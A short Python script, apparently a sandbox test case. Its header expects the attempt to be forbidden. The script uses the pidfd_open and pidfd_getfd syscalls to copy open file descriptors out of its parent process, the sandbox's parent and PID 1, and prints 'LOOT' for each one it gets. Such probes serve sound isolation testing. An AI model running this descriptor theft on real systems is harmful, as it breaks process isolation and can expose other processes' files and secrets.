# Takes open files out of the process that runs the sandbox.
# ends: forbidden, pidfd
import ctypes
import json
import os
import sys

about = json.load(sys.stdin)
libc = ctypes.CDLL(None, use_errno=True)
for number in (about["parent"], os.getppid(), 1):
    whose = libc.syscall(434, number, 0)
    for place in range(16):
        if libc.syscall(438, whose, place, 0) >= 0:
            print("LOOT", number, place)
raise OSError(ctypes.get_errno(), "pidfd_getfd")
